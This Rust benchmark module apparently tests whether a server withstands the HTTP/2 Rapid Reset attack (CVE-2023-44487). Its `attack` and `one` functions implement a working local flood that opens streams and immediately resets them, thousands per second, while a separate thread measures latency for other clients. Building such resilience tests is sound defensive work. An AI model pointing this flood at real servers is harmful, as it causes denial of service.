//! Streams that their client resets in the same breath (CVE-2023-44487), among hits: what others wait.

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use millstream_tests::frames::{headers, request};
use millstream_wire::h2::error_code::ErrorCode;
use millstream_wire::h2::{PREFACE, write};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Finding;
use super::subject::{Bench, HOT, milliseconds, on_this_thread, others, percentile};
use crate::source::Source;

/// Connections, resets a second of all together, and the duration.
const CONNECTIONS: u32 = 4;
const RATE: u32 = 30_000;
const LASTING: Duration = Duration::from_secs(6);
/// Pause between two bursts of a connection, and the resets in one.
const BETWEEN: Duration = Duration::from_millis(10);
const BURST: u32 = RATE / CONNECTIONS / 100;
/// Resets per hit.
const A_HIT: u32 = 2;
/// The bar in milliseconds, and the fewest responses to others: a tenth of their requests on a calm server.
const WAIT: f64 = 50.0;
const ANSWERED: usize = 100;

pub(super) fn measure(bench: &Bench) -> Result<Finding, String> {
    let source = Source::start();
    let server = bench.on_file("bench/conf/attack.conf", &source)?;
    let (over, port) = (AtomicBool::new(false), server.port);
    let asked = source.requests();
    let (sent, mut waited) = std::thread::scope(|scope| {
        // A thread of their own, so that they wait for the server alone.
        let others = scope.spawn(|| on_this_thread(others(port, &over)));
        let sent = on_this_thread(attack(port));
        over.store(true, Ordering::SeqCst);
        let waited = others.join().map_err(|_| "the others panicked".to_owned())??;
        Ok::<_, String>((sent?, waited))
    })?;
    let (answered, p99) = (waited.len(), milliseconds(percentile(&mut waited, 99)));
    let rate = f64::from(sent.resets) / LASTING.as_secs_f64();
    Ok(Finding {
        figures: format!(
            "{rate:.0} resets/s over {} connections, {} requests at the API; {answered} of others answered, p99 {p99:.1} ms",
            sent.connections,
            source.requests() - asked
        ),
        holds: answered >= ANSWERED && p99 < WAIT,
    })
}

#[derive(Default)]
struct Sent {
    resets: u32,
    /// A closed connection is opened again.
    connections: u32,
}

async fn attack(port: u16) -> Sent {
    let (end, mut clients) = (Instant::now() + LASTING, JoinSet::new());
    for _ in 0..CONNECTIONS {
        clients.spawn_local(async move {
            let mut sent = Sent::default();
            while Instant::now() < end {
                sent.connections += 1;
                // However it ends, the next one begins.
                let _ = tokio::time::timeout(end - Instant::now(), one(port, &mut sent.resets)).await;
            }
            sent
        });
    }
    let mut all = Sent::default();
    while let Some(Ok(sent)) = clients.join_next().await {
        all.resets += sent.resets;
        all.connections += sent.connections;
    }
    all
}

async fn one(port: u16, resets: &mut u32) -> std::io::Result<()> {
    let socket = TcpStream::connect(("127.0.0.1", port)).await?;
    let (mut reader, mut writer) = socket.into_split();
    // What it is answered is read, as otherwise it would be held back.
    let reading = tokio::task::spawn_local(async move {
        let mut buffer = vec![0; 64 * 1024];
        while reader.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    });
    let mut out = PREFACE.to_vec();
    write::settings(&mut out, &[]);
    write::window_update(&mut out, 0, 1 << 30);
    let (hit, slow) = (request("GET", HOT, &[]), request("GET", "/body/900?delay=2000", &[]));
    let (mut stream, mut ticks) = (1, tokio::time::interval(BETWEEN));
    while !reading.is_finished() {
        ticks.tick().await;
        for number in 0..BURST {
            out.extend(headers(stream, &slow));
            write::reset(&mut out, stream, ErrorCode::Cancel);
            stream += 2;
            if number % A_HIT == 0 {
                out.extend(headers(stream, &hit));
                stream += 2;
            }
        }
        writer.write_all(&out).await?;
        *resets += BURST;
        out.clear();
    }
    Ok(())
}
